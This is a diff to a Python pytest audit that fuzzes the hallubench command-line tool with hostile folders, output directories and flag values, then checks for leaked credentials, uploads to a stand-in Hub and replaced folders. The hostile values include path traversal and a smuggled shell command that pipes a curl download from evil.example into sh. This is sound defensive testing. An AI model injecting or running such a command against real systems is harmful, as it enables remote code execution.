@@ -16,16 +16,14 @@ import random
 import shutil
 import subprocess
 import sys
-import threading
 import time
-from http.server import ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
 from hypothesis import HealthCheck, given, seed, settings, strategies as st
 
 import audit_support as audit
-from conftest import Handler
+from conftest import start_server, stop_server
 from hub_server import StandInHub
 
 from hallubench.cli.main import build_parser
@@ -33,29 +31,18 @@ from hallubench.cli.main import build_parser
 SECONDS = float(os.environ.get("HALLUBENCH_AUDIT_SECONDS", "90"))
 MIN_EXTRA_SECONDS = 10  # Hypothesis's draws run at least this long, even when the cases every command meets took all
 SEED = int(os.environ.get("HALLUBENCH_AUDIT_SEED") or random.SystemRandom().randrange(2 ** 31))
-CASE_LIMIT = 8  # seconds one command may take before it is stopped (a stopped case is reported, not failed)
+CASE_LIMIT = 6  # seconds one command may take before it is stopped (a stopped case is reported, not failed)
 SETUP_LIMIT = 400
-
-
-def _openai_stand_in() -> ThreadingHTTPServer:
-    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-    httpd.daemon_threads = True
-    httpd.mode, httpd.delay, httpd.requests, httpd.times, httpd.retry_after_s = "ok", 0.0, [], [], 5
-    httpd.lock, httpd.stop, httpd.release = threading.Lock(), threading.Event(), threading.Event()
-    threading.Thread(target=httpd.serve_forever, daemon=True).start()
-    return httpd
 
 
 @pytest.fixture
 def servers():
     """The user's endpoints (a stand-in OpenAI server and the stand-in Hub) and a trap no one may reach: every URL
     that hostile data carries points at it."""
-    openai, trap, hub = _openai_stand_in(), _openai_stand_in(), StandInHub({})
+    openai, trap, hub = start_server(), start_server(), StandInHub({})
     yield {"openai": openai, "trap": trap, "hub": hub}
     for httpd in (openai, trap):
-        httpd.stop.set()
-        httpd.shutdown()
-        httpd.server_close()
+        stop_server(httpd)
     hub.close()
 
 
@@ -117,8 +104,8 @@ class Corpus:
                          for kind in ("run", "ranking", "dataset", "release")}
         self.variants["config"] = audit.config_variants(bases["config"], self.credential_url)
         self.cases: list[dict] = []
-        self.output_names = sorted({name for kind in ("run", "ranking", "site") for name in audit.files_of(bases[kind])}
-                                   | {"samples_rank0.jsonl", "leaderboard.csv", "crosscheck.json"})
+        self.output_names = sorted({name for kind in ("run", "ranking") for name in audit.files_of(bases[kind])}
+                                   | {"samples_rank0.jsonl", "index.html", "assets/style.css"})
 
     def add(self, words, parser, variant: str = "plain", kind: str | None = None, options=(), extra=False,
             hostile_out=False) -> None:
@@ -130,14 +117,18 @@ class Corpus:
             target = case / f"hostile-{kind}"
             made = self.variants[kind][variant](target)
             folders[kind] = made
-        out = case / "out"
+        out, people = case / "out", []
         if hostile_out:
             out.mkdir(parents=True)
             for action in parser._actions:
                 if audit.writes(action):
-                    audit.hostile_output(out / action.dest, self.outside, self.output_names)
+                    people.append(str(audit.hostile_output(out / action.dest, self.outside, self.output_names)
+                                      / audit.PERSONS_FILE))
         inputs = audit.Inputs(folders, self.openai_url)
-        argv = audit.base_argv(words, parser, inputs, out, pick=n if extra else 0)
+        positional = {a.dest for a in parser._actions if not a.option_strings}
+        argv = audit.base_argv(words, parser, inputs, out, pick=n if extra else 0,
+                               positional={dest: value for dest, value in options if dest in positional})
+        options = [(dest, value) for dest, value in options if dest not in positional]
         if kind == "ranking":  # `view` reads either: give it the hostile ranking in place of the run
             argv = [str(folders["ranking"]) if a == str(folders["run"]) else a for a in argv]
         if hostile_out and any(a.dest == "overwrite" for a in parser._actions):
@@ -149,7 +140,7 @@ class Corpus:
         self.cases.append({"id": str(n), "argv": argv, "cwd": str(case), "out": str(out), "limit": CASE_LIMIT,
                            "extra": extra, "command": " ".join(words),
                            "variant": f"{kind}:{variant}" if kind else variant,
-                           "options": [list(o) for o in options], "hostile_out": hostile_out})
+                           "options": [list(o) for o in options], "people": people})
 
     def kinds_read(self, parser) -> list[str]:
         """The hostile folder kinds that have a way into a command: the folders it reads, its data, its config."""
@@ -163,16 +154,23 @@ class Corpus:
         return list(dict.fromkeys(kinds))
 
     def guaranteed(self, leaves) -> None:
-        """Every command plain, against every variant of every folder kind it reads, with hostile output folders,
-        and each value it takes once with a hostile value (the classes in turn) and credentials in its *_args."""
+        """Every command plain; against each class of variant (a link out, no manifest, ...) of every folder kind it
+        reads, the linked file in turn, then each file's link once more where no command met it yet; with hostile
+        output folders; each value it takes once with a hostile value (in turn) and credentials in its *_args."""
         rotation = ["nan", "1" + "0" * 400, "1e309", "é\udcff", str(self.outside.secret), f"../../{audit.MARK}",
                     audit.HOSTILE_COMMAND, "-inf"]
-        i = 0
+        i, turns, met, readers = 0, {}, set(), {}
         for words, parser in leaves:
             self.add(words, parser)
             for kind in self.kinds_read(parser):
+                readers.setdefault(kind, []).append((words, parser))
+                by_class = {}
                 for variant in self.variants[kind]:
-                    self.add(words, parser, variant, kind)
+                    by_class.setdefault(variant.split(":")[0], []).append(variant)
+                for group in by_class.values():
+                    turn = turns[kind, group[0]] = turns.get((kind, group[0]), -1) + 1
+                    met.add((kind, group[turn % len(group)]))
+                    self.add(words, parser, group[turn % len(group)], kind)
             if any(audit.writes(a) for a in parser._actions):
                 self.add(words, parser, "hostile-output", hostile_out=True)
             for action in audit.fuzzable(parser):
@@ -188,6 +186,22 @@ class Corpus:
                 value = rotation[i % len(rotation)]
                 i += 1
                 self.add(words, parser, "flag-value", options=[(action.dest, value)])
+        names, takers = audit.registry_names(), {}
+        for words, parser in leaves:
+            for action in parser._actions:
+                if registry := audit.registry_of(action):
+                    takers.setdefault(registry, []).append((words, parser, action.dest))
+        for registry, entries in names.items():  # every task, model, judge, builder and metric once
+            for n, entry in enumerate(entries):
+                words, parser, dest = takers[registry][n % len(takers[registry])]
+                kinds = self.kinds_read(parser)
+                kind = kinds[n % len(kinds)] if kinds else None
+                variant = sorted(self.variants[kind])[n % len(self.variants[kind])] if kind else "plain"
+                self.add(words, parser, variant, kind, options=[(dest, entry)])
+        for kind, variants in self.variants.items():
+            for n, variant in enumerate(v for v in variants if (kind, v) not in met):
+                words, parser = readers[kind][n % len(readers[kind])]
+                self.add(words, parser, variant, kind)
 
     def extras(self, leaves, count: int) -> None:
         """Hypothesis draws: a command, a folder variant of a kind it reads, 1-3 options with hostile values."""
@@ -285,9 +299,9 @@ def test_every_command_over_the_hostile_corpus(tmp_path, servers):
     corpus.guaranteed(leaves)
     plants = audit.planted(outside, servers["trap"].server_port)
     for name, (code, _) in plants.items():
-        corpus.cases.append({"id": f"plant-{name}", "plant": code, "argv": [], "cwd": str(inside / "cases" / "plant"),
+        corpus.cases.append({"id": f"plant-{name.replace(' ', '-')}", "plant": code, "argv": [], "cwd": str(inside / "cases" / "plant"),
                              "out": str(inside / "cases" / "plant" / "out"), "limit": CASE_LIMIT, "extra": False,
-                             "command": "(planted)", "variant": name, "options": [], "hostile_out": False})
+                             "command": "(planted)", "variant": name, "options": [], "people": []})
     guaranteed = len(corpus.cases)
     corpus.extras(leaves, 200)
     results = _run_all(child, corpus.cases, cases_path, deadline)
@@ -307,13 +321,18 @@ def test_every_command_over_the_hostile_corpus(tmp_path, servers):
             stopped.append(case)
         else:
             problems += audit.error_problems(result["code"], result["stdout"], result["stderr"])
+        shown = result["stdout"] + result["stderr"]
+        if audit.HOSTILE_COMMAND.split("; ")[1][:30] in shown and not case["options"]:
+            problems.append("a command from data shown on the terminal (`...; curl http://evil.example/... | sh #`)")
+        problems += [f"{Path(path).parent}: a folder hallubench did not make was replaced (its thesis.txt is gone)"
+                     for path in case["people"] if not Path(path).exists()]
         problems += _recorded_secrets(case)
         problems += [f"secret {s[:12]}... uploaded to the Hub" for data in uploads.get(case["id"], [])
                      for s in audit.secrets_in(data)]
         findings += [{"command": case["command"], "variant": case["variant"], "problem": p,
                       "argv": case["argv"], "case": case["id"]} for p in dict.fromkeys(problems)]
     missed = [name for name, (_, says) in plants.items()
-              if not any(f["case"] == f"plant-{name}" and says in f["problem"] for f in findings)]
+              if not any(f["case"] == f"plant-{name.replace(' ', '-')}" and says in f["problem"] for f in findings)]
     assert not missed, f"the audit did not see these planted misdeeds: {missed}"
     findings = [f for f in findings if f["command"] != "(planted)"]
     if os.environ.get("HALLUBENCH_AUDIT_REPORT"):
